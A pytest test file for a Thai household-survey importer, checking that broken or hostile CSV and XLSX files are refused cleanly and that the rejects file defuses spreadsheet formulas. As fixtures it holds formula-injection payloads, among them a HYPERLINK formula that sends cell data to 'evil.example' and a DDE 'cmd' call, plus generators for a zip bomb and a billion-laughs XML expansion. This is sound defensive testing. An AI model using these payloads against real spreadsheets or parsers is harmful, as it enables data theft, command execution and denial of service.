"""Survey lists that are broken, hostile or huge: a clear refusal, bounded memory, nothing
half-imported; and a rejects file that never hands Excel a live formula."""
import csv
import io
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from bench.import_households import make_survey, write_csv, write_xlsx
from casework import importing
from casework.importing import reading, storing
from casework.importing.problems import FileRefused
from casework.models import AuditEntry, Household, Person, Village

ROOT = Path(__file__).resolve().parents[2]
HEADER = "village_code,house_no,citizen_id,first_name,last_name,relation\n"
GOOD_ROW = "46010101,1,1101700203451,สมชาย,ใจดี,head\n"
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def run_import(services, clock, path: Path, **options):
    return importing.import_households(path, uow=services.uow, sealer=services.sealer, now=clock(), **options)


def stored(services) -> dict[str, int]:
    with services.uow() as uow:
        return {model.__name__: uow.session.scalar(select(func.count()).select_from(model))
                for model in (Person, Household, Village, AuditEntry)}


NOTHING = {"Person": 0, "Household": 0, "Village": 0, "AuditEntry": 0}


def test_hostile_cells_come_back_from_the_rejects_file_as_text(fake_services, clock, tmp_path):
    path = tmp_path / "list.csv"
    hostile = ['=HYPERLINK("http://evil.example/?"&B2,"ดูรายละเอียด")', "=cmd|' /C calc'!A0", "@SUM(1+1)",
               "+66812345678", "-1+2"]
    rows = [f'"{hostile[0].replace(chr(34), chr(34) * 2)}",1,1101700203451,{hostile[1]},{hostile[2]},head',
            f"46010101,{hostile[3]},1101700203451,a,{hostile[4]},boss"]
    path.write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")

    summary = run_import(fake_services, clock, path)

    assert summary.rejected == 2
    with (tmp_path / "list.rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULAS)] == []
    for text in hostile:
        assert "'" + text in cells  # still there to read, but as text


def _xlsx_bytes(tmp_path) -> bytes:
    return write_xlsx(tmp_path / "good.xlsx", make_survey(20, bad_share=0, seed=5)).read_bytes()


def _bomb(path: Path, member: str, megabytes: int) -> Path:
    """A real workbook whose ``member`` is replaced by ``megabytes`` of one repeated byte."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    bomb = path.with_name("bomb.xlsx")
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename != member:
                archive.writestr(info.filename, source.read(info.filename))
        with archive.open(member, "w", force_zip64=True) as handle:
            handle.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                         b'spreadsheetml/2006/main"><si><t>')
            chunk = b"A" * (1 << 20)
            for _ in range(megabytes):
                handle.write(chunk)
            handle.write(b"</t></si></sst>")
    return bomb


def _laughs(tmp_path) -> bytes:
    """A workbook whose sheet defines entities that expand to a billion "lol"s."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes(tmp_path)))
    entities = '<!ENTITY lol0 "lolololololol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            data = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                sheet = data.decode()
                sheet = sheet[sheet.index("<worksheet"):].replace(
                    "<sheetData>", '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>', 1)
                data = f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]>{sheet}'.encode()
            archive.writestr(name, data)
    return out.getvalue()


HOSTILE_FILES = {
    "binary junk": ("junk.csv", lambda tmp: bytes(range(256)) * 64, None),
    "NUL bytes": ("nul.csv", lambda tmp: (HEADER + "46010101,1,11017\x00\x00\x00,a,b,head\n").encode(), "binary"),
    "a 50 MB line": ("long.csv", lambda tmp: HEADER.encode() + b"a" * (50 << 20) + b"\n", "line_too_long"),
    "a long cell": ("cell.csv", lambda tmp: (HEADER + GOOD_ROW.replace("ใจดี", "ก" * 5000)).encode(),
                    "cell_too_long"),
    "too many columns": ("wide.csv", lambda tmp: (HEADER.strip() + ",x" * 300 + "\n" + GOOD_ROW).encode(),
                         "too_many_columns"),
    "wrong encoding": ("latin.csv", lambda tmp: HEADER.encode() + b"46010101,1,1101700203451,\x81\x8d\x90,b,head\n",
                       None),
    "a truncated XLSX": ("cut.xlsx", lambda tmp: _xlsx_bytes(tmp)[:3000], "not_xlsx"),
    "a CSV named .xlsx": ("fake.xlsx", lambda tmp: (HEADER + GOOD_ROW).encode(), "not_xlsx"),
    "an empty XLSX": ("empty.xlsx", lambda tmp: b"", "not_xlsx"),
    "an XLSX of a billion laughs": ("laughs.xlsx", _laughs, "not_xlsx"),
}


@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_a_broken_or_hostile_file_is_refused_clearly_and_stores_nothing(fake_services, clock, tmp_path, name):
    filename, make, code = HOSTILE_FILES[name]
    path = tmp_path / filename
    path.write_bytes(make(tmp_path))

    with pytest.raises(importing.FileError) as refused:
        run_import(fake_services, clock, path)

    assert filename in str(refused.value)
    if code is not None:
        assert isinstance(refused.value, FileRefused) and refused.value.code == code
    assert stored(fake_services) == NOTHING
    assert not (tmp_path / f"{path.stem}.rejects.csv").exists()


@pytest.mark.parametrize("limit, value, code", [("MAX_FILE_BYTES", 1000, "too_big"),
                                                 ("MAX_ROWS", 30, "too_many_rows")])
def test_a_file_over_a_limit_is_refused_before_anything_is_stored(fake_services, clock, tmp_path, monkeypatch,
                                                                   limit, value, code):
    path = write_csv(tmp_path / "big.csv", make_survey(60, bad_share=0, seed=2))
    monkeypatch.setattr(reading, limit, value)

    with pytest.raises(FileRefused) as refused:
        run_import(fake_services, clock, path)

    assert refused.value.code == code
    assert stored(fake_services) == NOTHING


def test_an_xlsx_that_unpacks_too_big_is_refused(fake_services, clock, tmp_path, monkeypatch):
    path = write_xlsx(tmp_path / "list.xlsx", make_survey(200, bad_share=0, seed=2))
    monkeypatch.setattr(reading, "MAX_XLSX_UNPACKED", 10_000)

    with pytest.raises(FileRefused) as refused:
        run_import(fake_services, clock, path)

    assert refused.value.code == "xlsx_too_big"
    assert stored(fake_services) == NOTHING


def test_an_xlsx_zip_bomb_is_refused_with_little_memory(tmp_path):
    good = write_xlsx(tmp_path / "list.xlsx", make_survey(20, bad_share=0, seed=5))
    bomb = _bomb(good, "xl/sharedStrings.xml", 300)
    assert bomb.stat().st_size < 2 << 20  # 300 MB packed into under 2 MB
    script = textwrap.dedent(f"""
        import resource
        from pathlib import Path
        from casework.importing.problems import FileRefused
        from casework.importing.reading import open_table
        try:
            with open_table(Path({str(bomb)!r})):
                print("opened")
        except FileRefused as error:
            print(error.code)
        # VmHWM: this process's own peak; ru_maxrss would carry over pytest's, kept across exec
        status = Path("/proc/self/status")
        if status.exists():
            print(next(int(line.split()[1]) for line in status.read_text().splitlines()
                       if line.startswith("VmHWM")) // 1024)
        else:
            print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
    """)

    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False)

    code, peak_mb = done.stdout.split()
    assert code == "zip_bomb", done.stderr
    assert int(peak_mb) < 120, f"peak {peak_mb} MB"


def test_an_import_that_fails_half_way_leaves_nothing(fake_services, clock, tmp_path, monkeypatch):
    path = write_csv(tmp_path / "list.csv", make_survey(300, bad_share=0, seed=8))
    monkeypatch.setattr(importing, "BATCH_PERSONS", 50)
    batches = []
    real_batch = storing.Store.batch

    def failing_batch(self, plans):
        batches.append(len(plans))
        if len(batches) == 3:
            raise RuntimeError("the database went away")
        return real_batch(self, plans)

    monkeypatch.setattr(storing.Store, "batch", failing_batch)

    with pytest.raises(RuntimeError):
        run_import(fake_services, clock, path)

    assert len(batches) == 3
    assert stored(fake_services) == NOTHING


def test_the_command_refuses_a_hostile_file_in_thai(database_url, tmp_path, monkeypatch):
    from bot.commands import cli

    path = tmp_path / "cut.xlsx"
    path.write_bytes(_xlsx_bytes(tmp_path)[:3000])
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.delenv("KAEJON_DEMO", raising=False)

    result = CliRunner().invoke(cli, ["import", "households", str(path)])

    assert result.exit_code == 1
    assert "cut.xlsx" in result.output and "XLSX" in result.output
    assert "ไฟล์" in result.output  # Thai words, not English
    assert "Traceback" not in result.output
